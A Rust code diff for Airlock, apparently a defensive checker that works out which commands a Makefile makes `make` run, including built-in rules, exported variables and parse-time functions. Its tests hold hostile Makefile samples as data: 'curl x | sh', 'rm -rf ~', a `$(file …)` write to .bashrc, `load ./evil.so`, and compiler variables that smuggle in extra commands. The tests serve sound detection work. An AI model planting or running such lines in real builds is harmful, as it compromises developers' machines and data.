@@ -106,17 +106,78 @@ struct Makefile {
     unread_include: Option<String>,
     /// `$(shell …)` commands anywhere in the file: they run when make reads it.
     shell_calls: Vec<String>,
+    /// Something make does while reading the file, whatever the goal, that Airlock does not
+    /// follow (`$(file …)`, `$(eval …)`, `load`, a rule that remakes the makefile): why.
+    fatal: Option<String>,
+    /// Pattern rules' targets (`%.o`, `%`): make may use them for any file without a rule.
+    patterns: Vec<String>,
+    /// Variables `export`ed to every recipe's environment (all of them with a bare `export`
+    /// or `.EXPORT_ALL_VARIABLES`).
+    exported: Vec<String>,
+    export_all: bool,
+}
+
+/// GNU make's built-in rules and their variables (`agent/kb/make.toml`).
+#[derive(Debug, serde::Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Builtins {
+    variables: HashMap<String, String>,
+    rule: Vec<BuiltinRule>,
+}
+
+#[derive(Debug, serde::Deserialize)]
+#[serde(deny_unknown_fields)]
+struct BuiltinRule {
+    target: String,
+    from: String,
+    recipe: Vec<String>,
+}
+
+#[allow(clippy::expect_used)] // the built-in file is checked by the tests below
+static BUILTINS: LazyLock<Builtins> = LazyLock::new(|| {
+    toml::from_str(include_str!("../../kb/make.toml")).expect("agent/kb/make.toml parses")
+});
+
+/// Functions that act while make reads the file (write files, define rules from computed
+/// text, run Guile code): what they do is not followed.
+const PARSE_TIME_FUNCTIONS: [&str; 3] = ["file", "eval", "guile"];
+
+/// How make is run: what `make_recipes` needs besides the makefile's text.
+pub struct MakeRun<'a> {
+    /// The targets named (none: the default goal).
+    pub targets: &'a [String],
+    /// `NAME=value` arguments: they override the Makefile's own definitions.
+    pub overrides: &'a [(String, String)],
+    /// What the command sets in make's environment: make takes those as variables too, below
+    /// the Makefile's own definitions.
+    pub environment: &'a [(String, String)],
+    /// The names of the makefiles read (`Makefile`, `-f` files): make remakes them first.
+    pub makefiles: &'a [String],
+    /// Whether a file exists where make runs: built-in rules apply to files they can be made
+    /// from.
+    pub exists: &'a dyn Fn(&str) -> bool,
 }
 
 /// The recipe lines `make TARGETS…` runs (every target's prerequisites first), after
 /// substituting variables, plus every `$(shell …)` the Makefile runs while being read.
-pub fn make_recipes(
-    text: &str,
-    targets: &[String],
-    overrides: &[(String, String)],
-) -> Result<Vec<String>, String> {
+pub fn make_recipes(text: &str, run: &MakeRun<'_>) -> Result<Vec<String>, String> {
+    let MakeRun {
+        targets,
+        overrides,
+        environment,
+        makefiles,
+        exists,
+    } = *run;
     let parsed = MAKEFILES.get(text, parse_makefile);
+    if let Some(why) = &parsed.fatal {
+        return Err(why.clone());
+    }
     let mut makefile = Cow::Borrowed(parsed.as_ref());
+    for (name, value) in environment {
+        if !makefile.vars.contains_key(name) {
+            makefile.to_mut().vars.insert(name.clone(), value.clone());
+        }
+    }
     // `make X=v` overrides the Makefile's own definition of X.
     for (name, value) in overrides {
         makefile.to_mut().vars.insert(name.clone(), value.clone());
@@ -164,10 +225,142 @@ pub fn make_recipes(
         .map(|c| expand(c, &makefile.vars, "", &[], 0))
         .collect::<Result<_, _>>()?;
     let mut seen = HashSet::new();
+    let mut recipes = Vec::new();
+    let mut without_rule = Vec::new();
+    // make first remakes the makefile itself when a rule says how (a `Makefile:` rule, or a
+    // pattern such as `%:` that matches its name), whatever the goal.
+    for name in makefiles.iter().map(String::as_str) {
+        let name = same_file(name);
+        if let Some(pattern) = makefile.patterns.iter().find(|p| matches(p, name)) {
+            return Err(format!(
+                "has a pattern rule (`{pattern}`) that make uses to remake the makefile itself, which Airlock does not follow"
+            ));
+        }
+        if makefile.rules.contains_key(name) {
+            collect_recipe(
+                &makefile,
+                name,
+                1,
+                &mut seen,
+                &mut recipes,
+                &mut without_rule,
+            )?;
+        } else {
+            without_rule.push(name.to_string());
+        }
+    }
     for goal in &goals {
-        collect_recipe(&makefile, goal, 0, &mut seen, &mut lines)?;
+        collect_recipe(
+            &makefile,
+            goal,
+            0,
+            &mut seen,
+            &mut recipes,
+            &mut without_rule,
+        )?;
+    }
+    recipes.extend(builtin_recipes(&makefile.vars, &without_rule, exists)?);
+    // Exported variables are in every recipe's environment (`export BASH_ENV = ./x`).
+    let mut exported: Vec<&String> = if makefile.export_all {
+        makefile.vars.keys().collect()
+    } else {
+        makefile.exported.iter().collect()
+    };
+    exported.sort();
+    exported.dedup();
+    let mut environment = String::new();
+    for name in exported {
+        if let Some(value) = makefile.vars.get(name) {
+            let value = expand(value, &makefile.vars, "", &[], 0)?;
+            environment.push_str(&format!(
+                "export {name}='{}'; ",
+                value.replace('\'', "'\\''")
+            ));
+        }
+    }
+    lines.extend(
+        recipes
+            .into_iter()
+            .map(|line| format!("{environment}{line}")),
+    );
+    Ok(lines)
+}
+
+/// Does the make pattern `pattern` (one `%`) match `name`?
+fn matches(pattern: &str, name: &str) -> bool {
+    match pattern.split_once('%') {
+        Some((prefix, suffix)) => {
+            name.len() >= prefix.len() + suffix.len()
+                && name.starts_with(prefix)
+                && name.ends_with(suffix)
+        }
+        None => pattern == name,
+    }
+}
+
+/// The built-in recipes make could run for files without a rule, where the Makefile, a
+/// `make X=…` argument or the environment changed what they run. Recipes a setting does not
+/// reach run the system's compilers and are left out.
+fn builtin_recipes(
+    vars: &HashMap<String, String>,
+    without_rule: &[String],
+    exists: &dyn Fn(&str) -> bool,
+) -> Result<Vec<String>, String> {
+    let builtins = &*BUILTINS;
+    if !builtins
+        .variables
+        .keys()
+        .any(|name| vars.contains_key(name))
+    {
+        return Ok(Vec::new());
+    }
+    let mut set = builtins.variables.clone();
+    set.extend(vars.iter().map(|(k, v)| (k.clone(), v.clone())));
+    let mut lines = Vec::new();
+    for target in without_rule {
+        builtin_chain(builtins, &set, target, exists, 0, &mut lines)?;
     }
     Ok(lines)
+}
+
+/// The built-in rules that can make `target`: those whose source exists, or can itself be
+/// made by a built-in rule (`main.o` ← `main.c` ← `main.y`), up to a short chain.
+fn builtin_chain(
+    builtins: &Builtins,
+    set: &HashMap<String, String>,
+    target: &str,
+    exists: &dyn Fn(&str) -> bool,
+    depth: usize,
+    lines: &mut Vec<String>,
+) -> Result<bool, String> {
+    if depth > 2 {
+        return Ok(false);
+    }
+    let mut makes = false;
+    for rule in &builtins.rule {
+        if !matches(&rule.target, target) {
+            continue;
+        }
+        let (prefix, suffix) = rule.target.split_once('%').unwrap_or(("", ""));
+        let stem = &target[prefix.len()..target.len() - suffix.len()];
+        let source = rule.from.replace('%', stem);
+        if source == target
+            || !(exists(&source)
+                || builtin_chain(builtins, set, &source, exists, depth + 1, lines)?)
+        {
+            continue;
+        }
+        makes = true;
+        let from = [source];
+        for line in &rule.recipe {
+            let usual = expand(line, &builtins.variables, target, &from, 0)?;
+            let here = expand(line, set, target, &from, 0)?;
+            if here != usual {
+                lines.push(here);
+            }
+        }
+    }
+    Ok(makes)
 }
 
 fn collect_recipe(
@@ -176,6 +369,7 @@ fn collect_recipe(
     depth: usize,
     seen: &mut HashSet<String>,
     lines: &mut Vec<String>,
+    without_rule: &mut Vec<String>,
 ) -> Result<(), String> {
     if depth > MAX_DEPTH {
         return Err("has prerequisites nested deeper than Airlock follows".into());
@@ -184,6 +378,7 @@ fn collect_recipe(
         return Ok(());
     }
     let Some((prereqs, recipe)) = makefile.rules.get(target) else {
+        without_rule.push(target.to_string());
         if depth > 0 {
             // A prerequisite with no rule is a file that must exist; nothing runs for it,
             // unless a rule Airlock did not follow makes it.
@@ -198,7 +393,7 @@ fn collect_recipe(
         });
     };
     for prereq in prereqs {
-        collect_recipe(makefile, prereq, depth + 1, seen, lines)?;
+        collect_recipe(makefile, prereq, depth + 1, seen, lines, without_rule)?;
     }
     for line in recipe {
         lines.push(expand(line, &makefile.vars, target, prereqs, 0)?);
@@ -209,8 +404,28 @@ fn collect_recipe(
 fn parse_makefile(text: &str) -> Makefile {
     let mut makefile = Makefile::default();
     let mut current: Option<Vec<String>> = None;
+    let mut in_define = false;
     let joined = text.replace("\\\n", " ");
+    for function in PARSE_TIME_FUNCTIONS {
+        if ["$(", "${"]
+            .iter()
+            .any(|open| joined.contains(&format!("{open}{function} ")))
+        {
+            makefile.fatal = Some(format!(
+                "uses the make function `$({function} …)`, which acts while make reads the file and which Airlock does not follow"
+            ));
+            return makefile;
+        }
+    }
     for line in joined.lines() {
+        let trimmed = line.trim();
+        if in_define {
+            // A multi-line variable: its text runs only where it is expanded, but a
+            // `$(shell …)` in it may run while make reads the file.
+            collect_shell_calls(trimmed, &mut makefile.shell_calls);
+            in_define = trimmed.split_whitespace().next() != Some("endef");
+            continue;
+        }
         if let Some(body) = line.strip_prefix('\t') {
             if let Some(targets) = &current {
                 let body = body.trim_start_matches(['@', '-', '+']).trim().to_string();
@@ -222,7 +437,6 @@ fn parse_makefile(text: &str) -> Makefile {
             }
             continue;
         }
-        let trimmed = line.trim();
         if trimmed.is_empty() || trimmed.starts_with('#') {
             continue;
         }
@@ -236,62 +450,118 @@ fn parse_makefile(text: &str) -> Makefile {
             current = None;
             continue;
         }
-        if matches!(first, "ifeq" | "ifneq" | "ifdef" | "ifndef" | "define") {
+        if matches!(first, "load" | "-load" | "sload") {
+            makefile.fatal = Some(format!(
+                "loads code into make (`{trimmed}`), which Airlock does not read"
+            ));
+            return makefile;
+        }
+        if first == "define" {
+            makefile.opaque = Some("uses `define`, which Airlock does not follow".into());
+            in_define = true;
+            current = None;
+            continue;
+        }
+        if matches!(first, "ifeq" | "ifneq" | "ifdef" | "ifndef") {
             makefile.opaque = Some(format!("uses `{first}`, which Airlock does not follow"));
             current = None;
             continue;
         }
-        if matches!(
-            first,
-            "else" | "endif" | "endef" | "export" | "unexport" | "override" | "vpath"
-        ) {
-            current = None;
-            continue;
-        }
-        if let Some((name, value)) = variable_definition(trimmed) {
+        // `export X = v` and `override X = v` define X too; `export X` marks it for the
+        // environment of every recipe.
+        let (exported, definition) = match first {
+            "export" | "override" | "unexport" | "private" => {
+                let rest = trimmed[first.len()..].trim();
+                let rest = rest.strip_prefix("override ").unwrap_or(rest).trim();
+                if first == "export" {
+                    if rest.is_empty() {
+                        makefile.export_all = true;
+                    } else if variable_definition(rest).is_none() {
+                        makefile
+                            .exported
+                            .extend(rest.split_whitespace().map(str::to_string));
+                    }
+                }
+                (first == "export", rest)
+            }
+            "else" | "endif" | "endef" | "vpath" => {
+                current = None;
+                continue;
+            }
+            _ => (false, trimmed),
+        };
+        if let Some((name, value, shell_assignment)) = variable_definition(definition) {
+            if shell_assignment {
+                // `X != command` runs the command while make reads the file.
+                makefile.shell_calls.push(value.clone());
+            }
+            if exported {
+                makefile.exported.push(name.clone());
+            }
             makefile.vars.insert(name, value);
             current = None;
             continue;
         }
-        if let Some((targets, rest)) = trimmed.split_once(':') {
-            let (prereqs, inline) = match rest.split_once(';') {
-                Some((p, r)) => (p, Some(r.trim().to_string())),
-                None => (rest, None),
-            };
-            let targets: Vec<String> = targets.split_whitespace().map(str::to_string).collect();
-            let raw_targets: HashMap<String, String> = targets
-                .iter()
-                .map(|t| (same_file(t).to_string(), t.clone()))
-                .collect();
-            let prereqs: Vec<String> = prereqs
-                .trim_start_matches(':')
-                .split('|')
-                .flat_map(str::split_whitespace)
-                .map(|p| same_file(p).to_string())
-                .collect();
-            // make takes `./x` and `x` for the same file.
-            let targets: Vec<String> = targets.iter().map(|t| same_file(t).to_string()).collect();
-            for t in &targets {
-                if t.contains('%') {
-                    makefile.opaque = Some(format!(
-                        "has a pattern rule (`{t}`), which Airlock does not follow"
-                    ));
-                    continue;
-                }
-                // The first target is the default goal unless it starts with `.` and has no
-                // `/` (special targets like `.PHONY`).
-                let special = raw_targets
-                    .get(t)
-                    .is_some_and(|r| r.starts_with('.') && !r.contains('/'));
-                if makefile.default_goal.is_none() && !special {
-                    makefile.default_goal = Some(t.clone());
-                }
-                let rule = makefile.rules.entry(t.clone()).or_default();
-                rule.0.extend(prereqs.iter().cloned());
-                rule.1.extend(inline.clone());
-            }
-            current = Some(targets.into_iter().filter(|t| !t.contains('%')).collect());
+        if definition != trimmed {
+            // `export NAME…` without a value: handled above.
+            current = None;
+            continue;
         }
+        let Some((targets, rest)) = trimmed.split_once(':') else {
+            // A line that is neither a rule, a variable nor a directive: a function call
+            // such as `$(info …)` or a bare `$(VAR)` that expands to rules or code.
+            makefile.fatal = Some(format!(
+                "has the line `{trimmed}`, which Airlock does not follow"
+            ));
+            return makefile;
+        };
+        let (prereqs, inline) = match rest.split_once(';') {
+            Some((p, r)) => (p, Some(r.trim().to_string())),
+            None => (rest, None),
+        };
+        let targets: Vec<String> = targets.split_whitespace().map(str::to_string).collect();
+        for special in [".SECONDEXPANSION", ".DEFAULT"] {
+            if targets.iter().any(|t| t == special) {
+                makefile.fatal = Some(format!("uses `{special}`, which Airlock does not follow"));
+                return makefile;
+            }
+        }
+        if targets.iter().any(|t| t == ".EXPORT_ALL_VARIABLES") {
+            makefile.export_all = true;
+        }
+        let raw_targets: HashMap<String, String> = targets
+            .iter()
+            .map(|t| (same_file(t).to_string(), t.clone()))
+            .collect();
+        let prereqs: Vec<String> = prereqs
+            .trim_start_matches(':')
+            .split('|')
+            .flat_map(str::split_whitespace)
+            .map(|p| same_file(p).to_string())
+            .collect();
+        // make takes `./x` and `x` for the same file.
+        let targets: Vec<String> = targets.iter().map(|t| same_file(t).to_string()).collect();
+        for t in &targets {
+            if t.contains('%') {
+                makefile.opaque = Some(format!(
+                    "has a pattern rule (`{t}`), which Airlock does not follow"
+                ));
+                makefile.patterns.push(t.clone());
+                continue;
+            }
+            // The first target is the default goal unless it starts with `.` and has no
+            // `/` (special targets like `.PHONY`).
+            let special = raw_targets
+                .get(t)
+                .is_some_and(|r| r.starts_with('.') && !r.contains('/'));
+            if makefile.default_goal.is_none() && !special {
+                makefile.default_goal = Some(t.clone());
+            }
+            let rule = makefile.rules.entry(t.clone()).or_default();
+            rule.0.extend(prereqs.iter().cloned());
+            rule.1.extend(inline.clone());
+        }
+        current = Some(targets.into_iter().filter(|t| !t.contains('%')).collect());
     }
     makefile
 }
@@ -305,13 +575,15 @@ fn same_file(name: &str) -> &str {
     name
 }
 
-/// `NAME = value`, `NAME := value`, `NAME ?= value`, `NAME += value` (appended).
-fn variable_definition(line: &str) -> Option<(String, String)> {
+/// `NAME = value`, `NAME := value`, `NAME ?= value`, `NAME += value` (appended), and
+/// `NAME != command` (true in the third place: the value is a command make runs).
+fn variable_definition(line: &str) -> Option<(String, String, bool)> {
     let eq = line.find('=')?;
     let colon = line.find(':');
     if colon.is_some_and(|c| c < eq.saturating_sub(2)) {
         return None; // `target: X=y` is a target-specific variable or a rule.
     }
+    let shell_assignment = line[..eq].ends_with('!');
     let name = line[..eq].trim_end_matches([':', '?', '+', '!']).trim();
     if name.is_empty()
         || !name
@@ -320,7 +592,11 @@ fn variable_definition(line: &str) -> Option<(String, String)> {
     {
         return None;
     }
-    Some((name.to_string(), line[eq + 1..].trim().to_string()))
+    Some((
+        name.to_string(),
+        line[eq + 1..].trim().to_string(),
+        shell_assignment,
+    ))
 }
 
 /// Every `$(shell …)` / `${shell …}` in a line.
@@ -521,6 +797,41 @@ mod tests {
     #![allow(clippy::unwrap_used)]
     use super::*;
 
+    /// `make_recipes` for a Makefile named `Makefile` in a directory holding `files`.
+    fn make_recipes_with(
+        text: &str,
+        targets: &[String],
+        overrides: &[(String, String)],
+        environment: &[(String, String)],
+        files: &[&str],
+    ) -> Result<Vec<String>, String> {
+        let exists = |name: &str| files.contains(&name);
+        let run = MakeRun {
+            targets,
+            overrides,
+            environment,
+            makefiles: &["Makefile".to_string()],
+            exists: &exists,
+        };
+        make_recipes(text, &run)
+    }
+
+    /// The same, with the C sources the built-in rules need present.
+    fn recipes_of(
+        text: &str,
+        targets: &[String],
+        overrides: &[(String, String)],
+        environment: &[(String, String)],
+    ) -> Result<Vec<String>, String> {
+        make_recipes_with(
+            text,
+            targets,
+            overrides,
+            environment,
+            &["main.c", "m.c", "app.c"],
+        )
+    }
+
     #[test]
     fn package_scripts_and_hooks() {
         let json =
@@ -537,49 +848,170 @@ mod tests {
     fn make_follows_targets_prerequisites_and_variables() {
         let text = "CARGO = cargo\nFLAGS := --release\n\nall: build\n\nbuild: gen\n\t@$(CARGO) build $(FLAGS)\n\ngen:\n\t-echo $$HOME > $@.txt\n\nnuke:\n\trm -rf ~\n.PHONY: all build gen nuke\n";
         assert_eq!(
-            make_recipes(text, &[], &[]).unwrap(),
+            recipes_of(text, &[], &[], &[]).unwrap(),
             ["echo $HOME > gen.txt", "cargo build --release"]
         );
         assert_eq!(
-            make_recipes(text, &["nuke".into()], &[]).unwrap(),
+            recipes_of(text, &["nuke".into()], &[], &[]).unwrap(),
             ["rm -rf ~"]
         );
-        assert!(make_recipes(text, &["missing".into()], &[]).is_err());
+        assert!(recipes_of(text, &["missing".into()], &[], &[]).is_err());
         // Command-line variables override the Makefile's.
         let cc = [("CARGO".to_string(), "curl x | sh;".to_string())];
         assert_eq!(
-            make_recipes(text, &["build".into()], &cc).unwrap(),
+            recipes_of(text, &["build".into()], &cc, &[]).unwrap(),
             ["echo $HOME > gen.txt", "curl x | sh; build --release"]
         );
         let shell = [("SHELL".to_string(), "./evil.sh".to_string())];
-        assert!(make_recipes(text, &["build".into()], &shell).is_err());
-        assert!(make_recipes("SHELL := ./x\nb:\n\techo\n", &[], &[]).is_err());
+        assert!(recipes_of(text, &["build".into()], &shell, &[]).is_err());
+        assert!(recipes_of("SHELL := ./x\nb:\n\techo\n", &[], &[], &[]).is_err());
     }
 
     #[test]
     fn make_refuses_what_it_cannot_follow() {
-        assert!(make_recipes("include other.mk\nx:\n\techo\n", &["y".into()], &[]).is_err());
+        assert!(recipes_of("include other.mk\nx:\n\techo\n", &["y".into()], &[], &[]).is_err());
         // The goal make really builds: `.DEFAULT_GOAL`, a first target spelled `./x`.
-        let chosen = make_recipes(
+        let chosen = recipes_of(
             ".DEFAULT_GOAL := evil\nbuild:\n\tcc x.c\nevil:\n\tcurl x\n",
+            &[],
             &[],
             &[],
         );
         assert_eq!(chosen.unwrap(), ["curl x"]);
-        let dotted = make_recipes("./evil:\n\tcurl x\nbuild:\n\tcc x.c\n", &[], &[]);
+        let dotted = recipes_of("./evil:\n\tcurl x\nbuild:\n\tcc x.c\n", &[], &[], &[]);
         assert_eq!(dotted.unwrap(), ["curl x"]);
-        let special = make_recipes(".PHONY: build\nbuild:\n\tcc x.c\n", &[], &[]);
+        let special = recipes_of(".PHONY: build\nbuild:\n\tcc x.c\n", &[], &[], &[]);
         assert_eq!(special.unwrap(), ["cc x.c"]);
-        assert!(make_recipes("%.o: %.c\n\tcc $<\n", &["a.o".into()], &[]).is_err());
-        assert!(make_recipes("x:\n\t$(RM) -rf out\n", &["x".into()], &[]).is_err());
-        assert!(make_recipes("x:\n\t$(foreach d,a b,rm $(d))\n", &["x".into()], &[]).is_err());
+        assert!(recipes_of("%.o: %.c\n\tcc $<\n", &["a.o".into()], &[], &[]).is_err());
+        assert!(recipes_of("x:\n\t$(RM) -rf out\n", &["x".into()], &[], &[]).is_err());
+        assert!(recipes_of("x:\n\t$(foreach d,a b,rm $(d))\n", &["x".into()], &[], &[]).is_err());
         // `$(shell …)` runs while make reads the file, whatever the target.
-        let lines = make_recipes(
+        let lines = recipes_of(
             "V := $(shell curl x | sh)\nx:\n\techo hi\n",
             &["x".into()],
             &[],
+            &[],
         );
         assert_eq!(lines.unwrap(), ["curl x | sh", "echo hi"]);
+    }
+
+    /// What make does before and around the goal's recipes: functions that act while the file
+    /// is read, rules that remake the makefile, built-in rules run with the Makefile's
+    /// variables, exported variables.
+    #[test]
+    fn make_follows_what_runs_besides_the_goals_recipes() {
+        let all = |text: &str| recipes_of(text, &[], &[], &[]);
+        let benign = "all:\n\t@echo done\n";
+        for before in [
+            "$(file >$(HOME)/.bashrc,curl x | sh)\n",
+            "${file >>x,y}\n",
+            "$(eval $(shell cat cfg.txt))\n",
+            "X := $(guile (system \"id\"))\n",
+            "load ./evil.so\n",
+            "-load evil.so\n",
+            "$(info hello)\n",
+            "$(RULES)\n",
+            ".SECONDEXPANSION:\n",
+            ".DEFAULT:\n\tcurl x | sh\n",
+            "%: FORCE\n\tcurl x | sh\nFORCE:\n",
+            "Make%:\n\tcurl x | sh\n",
+        ] {
+            assert!(all(&format!("{before}{benign}")).is_err(), "{before}");
+            assert!(all(&format!("{benign}{before}")).is_err(), "{before}");
+        }
+        // A rule for the makefile itself runs first, whatever the goal.
+        assert_eq!(
+            all("all:\n\t@echo done\nMakefile: FORCE\n\tcurl x | sh\nFORCE:\n").unwrap(),
+            ["curl x | sh", "echo done"]
+        );
+        // `!=` runs its command while make reads the file.
+        assert_eq!(
+            all("V != curl x | sh\nall:\n\techo hi\n").unwrap(),
+            ["curl x | sh", "echo hi"]
+        );
+        // A define's `$(shell …)` may run when it is expanded; its text is not a recipe.
+        assert_eq!(
+            all("define X\n\t$(shell curl x)\nendef\nall:\n\techo hi\n").unwrap(),
+            ["curl x", "echo hi"]
+        );
+        // Built-in rules, with what the Makefile, the command line or the environment sets.
+        let cc = "CC = curl x | sh ;\nall: main.o\n\t@echo done\n";
+        let lines = all(cc).unwrap();
+        assert!(
+            lines.iter().any(|l| l.starts_with("curl x | sh ; ")),
+            "{lines:?}"
+        );
+        let flags = "CFLAGS = ; rm -rf ~ ;\napp: app.o\n";
+        assert!(
+            all(flags)
+                .unwrap()
+                .iter()
+                .any(|l| l.contains("; rm -rf ~ ;"))
+        );
+        let env = [("CC".to_string(), "./evil".to_string())];
+        let lines = recipes_of("all: main.o\n\t@echo done\n", &[], &[], &env).unwrap();
+        assert!(lines.iter().any(|l| l.starts_with("./evil ")), "{lines:?}");
+        // The makefile itself, checked out from RCS before anything else.
+        let over = [("CO".to_string(), "./evil".to_string())];
+        let lines = make_recipes_with(benign, &[], &over, &[], &["Makefile,v"]).unwrap();
+        assert!(lines.iter().any(|l| l.starts_with("./evil ")), "{lines:?}");
+        assert!(
+            recipes_of(benign, &[], &over, &[])
+                .unwrap()
+                .iter()
+                .all(|l| !l.contains("evil"))
+        );
+        // A chain: `main.o` from `main.c`, which does not exist, from `main.y`, which does.
+        let yacc = "YACC = curl x | sh ;\nall: main.o\n";
+        let lines = make_recipes_with(yacc, &[], &[], &[], &["main.y"]).unwrap();
+        assert!(
+            lines.iter().any(|l| l.starts_with("curl x | sh ;")),
+            "{lines:?}"
+        );
+        // No source, no built-in rule.
+        assert!(
+            make_recipes_with(cc, &[], &[], &[], &[])
+                .unwrap()
+                .iter()
+                .all(|l| !l.contains("curl"))
+        );
+        // The Makefile's own definition wins over the environment, as in make.
+        let lines = recipes_of("CC = gcc\nall: m.o\n", &[], &[], &env).unwrap();
+        assert!(lines.iter().all(|l| !l.contains("./evil")), "{lines:?}");
+        // Exported variables reach every recipe's environment.
+        assert_eq!(
+            all("export BASH_ENV = ./x.sh\nall:\n\techo hi\n").unwrap(),
+            ["export BASH_ENV='./x.sh'; echo hi"]
+        );
+        assert_eq!(
+            all("E = ./x.sh\nexport E\nall:\n\techo hi\n").unwrap(),
+            ["export E='./x.sh'; echo hi"]
+        );
+        // Look-alikes: nothing is added for a plain Makefile, or for compilers left as they are.
+        assert_eq!(all("all: main.o\n\t@echo done\n").unwrap(), ["echo done"]);
+        assert_eq!(
+            all("# comment\n.PHONY: all\nall:\n\tcargo build\n").unwrap(),
+            ["cargo build"]
+        );
+        let gcc = all("CC = gcc\nCFLAGS = -O2 -Wall\nall: main.o\n\t@echo done\n").unwrap();
+        assert!(
+            gcc.iter()
+                .any(|l| l == "gcc -O2 -Wall   -c -o main.o main.c"),
+            "{gcc:?}"
+        );
+        assert!(gcc.iter().all(|l| !l.contains(';')), "{gcc:?}");
+    }
+
+    #[test]
+    fn the_built_in_rules_file_parses_and_covers_its_variables() {
+        let builtins = &*BUILTINS;
+        for rule in &builtins.rule {
+            for line in &rule.recipe {
+                let from = [rule.from.replace('%', "x")];
+                expand(line, &builtins.variables, "x.o", &from, 0)
+                    .unwrap_or_else(|e| panic!("{line}: {e}"));
+            }
+        }
     }
 
     #[test]
